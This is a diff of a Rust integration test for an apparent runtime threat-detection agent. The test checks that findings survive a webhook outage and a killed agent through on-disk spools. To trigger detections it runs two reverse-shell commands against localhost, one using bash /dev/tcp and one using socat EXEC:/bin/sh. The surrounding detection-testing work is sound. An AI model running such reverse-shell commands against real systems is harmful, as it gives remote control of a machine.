@@ -13,30 +13,17 @@ mod http;
 
 use std::{
     collections::{BTreeMap, BTreeSet},
-    path::Path,
     time::{Duration, Instant},
 };
 
-use agent::{metric, run_attack, AgentSpec};
-use common::{marker, privileged};
+use agent::{belongs_to_runner, metric, run_attack, Agent, AgentSpec};
+use common::{marker, privileged, spooled_files};
 use http::{finding_id, free_port, Server};
 use serde_json::Value;
 
 const RCE: &str = "Execution: Possible Remote Command Execution Detected";
 const REVERSE_SHELL: &str = "Reverse Shell";
 const SOCAT: &str = "Execution: Socat Reverse Shell Detected";
-
-fn spooled(dir: &Path) -> Vec<String> {
-    let mut v: Vec<String> = std::fs::read_dir(dir)
-        .into_iter()
-        .flatten()
-        .filter_map(|e| e.ok())
-        .map(|e| e.file_name().to_string_lossy().into_owned())
-        .filter(|n| n.ends_with(".json"))
-        .collect();
-    v.sort();
-    v
-}
 
 fn wait(what: &str, timeout: Duration, mut cond: impl FnMut() -> bool, state: impl Fn() -> String) {
     let deadline = Instant::now() + timeout;
@@ -50,20 +37,16 @@ fn category(f: &Value) -> String {
     f["finding"]["category"].as_str().unwrap().to_string()
 }
 
-/// The findings (from `all`) whose process ancestry names `runner`.
+/// The findings (from `all`) of the attack run by `runner`.
 fn of_runner(all: &[Value], runner: u32) -> Vec<Value> {
-    all.iter()
-        .filter(|f| {
-            f["finding"]["sourceProperties"]["Process_Ancestry"]
-                .as_array()
-                .is_some_and(|a| a.iter().any(|x| x["pid"].as_u64() == Some(u64::from(runner))))
-        })
-        .cloned()
-        .collect()
+    all.iter().filter(|f| belongs_to_runner(f, runner)).cloned().collect()
 }
 
-fn categories(fs: &[Value]) -> BTreeSet<String> {
-    fs.iter().map(category).collect()
+/// Wait until the agent has raised exactly `want` for the attack run by `runner`.
+fn wait_caught(agent: &Agent, what: &str, runner: u32, want: &[&str]) {
+    let want: BTreeSet<String> = want.iter().map(|s| s.to_string()).collect();
+    let got = || of_runner(&agent.findings(), runner).iter().map(category).collect::<BTreeSet<_>>();
+    wait(what, Duration::from_secs(20), || got() == want, || format!("{:?}", agent.findings().iter().map(category).collect::<Vec<_>>()));
 }
 
 #[test]
@@ -93,16 +76,13 @@ fn webhook_outage_and_killed_agent_lose_no_finding() {
     // 1. The receiver is down. A reverse shell is caught; its findings wait in the spool.
     let a = agent::start(&dir, &spec);
     let runner1 = run_attack("bash", "bash -c 'exec bash -i >& /dev/tcp/127.0.0.1/{P} 0>&1'", "id; exit\n");
-    let want1: BTreeSet<String> = [REVERSE_SHELL, RCE].iter().map(|s| s.to_string()).collect();
-    wait("the first attack's findings", Duration::from_secs(20), || categories(&of_runner(&a.findings(), runner1)) == want1, || {
-        format!("{:?}", a.findings().iter().map(category).collect::<Vec<_>>())
-    });
+    wait_caught(&a, "the first attack's findings", runner1, &[REVERSE_SHELL, RCE]);
     let n1 = a.findings().len();
     wait(
         "the findings in the spools",
         Duration::from_secs(10),
-        || spooled(&spool).len() == n1 && spooled(&flag_spool).len() == n1,
-        || format!("{:?} {:?}", spooled(&spool), spooled(&flag_spool)),
+        || spooled_files(&spool).len() == n1 && spooled_files(&flag_spool).len() == n1,
+        || format!("{:?} {:?}", spooled_files(&spool), spooled_files(&flag_spool)),
     );
     let metrics_a = agent::http_get(&a.metrics, "/metrics");
     wait(
@@ -118,7 +98,7 @@ fn webhook_outage_and_killed_agent_lose_no_finding() {
     // 2. The agent is killed: no flush, no shutdown. What it accepted is on disk.
     let (found_a, _) = a.kill();
     assert_eq!(found_a.len(), n1, "nothing more was written after the spool filled");
-    assert_eq!(spooled(&spool).len(), n1, "the spool outlives the killed agent");
+    assert_eq!(spooled_files(&spool).len(), n1, "the spool outlives the killed agent");
 
     // 3. Started again (the receiver still down): the spool is picked up, a second attack adds
     //    to it.
@@ -130,16 +110,13 @@ fn webhook_outage_and_killed_agent_lose_no_finding() {
         || agent::http_get(&b.metrics, "/metrics"),
     );
     let runner2 = run_attack("socat", "socat TCP:127.0.0.1:{P} EXEC:/bin/sh", "id; exit\n");
-    let want2: BTreeSet<String> = [SOCAT, REVERSE_SHELL, RCE].iter().map(|s| s.to_string()).collect();
-    wait("the second attack's findings", Duration::from_secs(20), || categories(&of_runner(&b.findings(), runner2)) == want2, || {
-        format!("{:?}", b.findings().iter().map(category).collect::<Vec<_>>())
-    });
+    wait_caught(&b, "the second attack's findings", runner2, &[SOCAT, REVERSE_SHELL, RCE]);
     let n2 = b.findings().len();
     wait(
         "every finding in the spools",
         Duration::from_secs(10),
-        || spooled(&spool).len() == n1 + n2 && spooled(&flag_spool).len() == n1 + n2,
-        || format!("{:?} {:?}", spooled(&spool), spooled(&flag_spool)),
+        || spooled_files(&spool).len() == n1 + n2 && spooled_files(&flag_spool).len() == n1 + n2,
+        || format!("{:?} {:?}", spooled_files(&spool), spooled_files(&flag_spool)),
     );
 
     // 4. The receiver comes back: every finding arrives and the spool empties.
@@ -154,8 +131,8 @@ fn webhook_outage_and_killed_agent_lose_no_finding() {
     wait(
         "delivery of everything to both webhooks",
         Duration::from_secs(30),
-        || ids_at("/ingest").len() == raised.len() && ids_at("/flag").len() == raised.len() && spooled(&spool).is_empty() && spooled(&flag_spool).is_empty(),
-        || format!("received {:?}, spooled {:?} {:?}", server.ids(), spooled(&spool), spooled(&flag_spool)),
+        || ids_at("/ingest").len() == raised.len() && ids_at("/flag").len() == raised.len() && spooled_files(&spool).is_empty() && spooled_files(&flag_spool).is_empty(),
+        || format!("received {:?}, spooled {:?} {:?}", server.ids(), spooled_files(&spool), spooled_files(&flag_spool)),
     );
     let raised_ids: BTreeSet<String> = raised.keys().cloned().collect();
     assert_eq!(ids_at("/ingest"), raised_ids, "exactly the raised findings, no other ids");
@@ -194,6 +171,6 @@ fn webhook_outage_and_killed_agent_lose_no_finding() {
     };
     wait("the sink metrics", Duration::from_secs(5), || settled(&agent::http_get(&b.metrics, "/metrics")), || agent::http_get(&b.metrics, "/metrics"));
     let (_, log) = b.stop();
-    assert!(spooled(&spool).is_empty() && spooled(&flag_spool).is_empty(), "{log}");
+    assert!(spooled_files(&spool).is_empty() && spooled_files(&flag_spool).is_empty(), "{log}");
     std::fs::remove_dir_all(&dir).unwrap();
 }
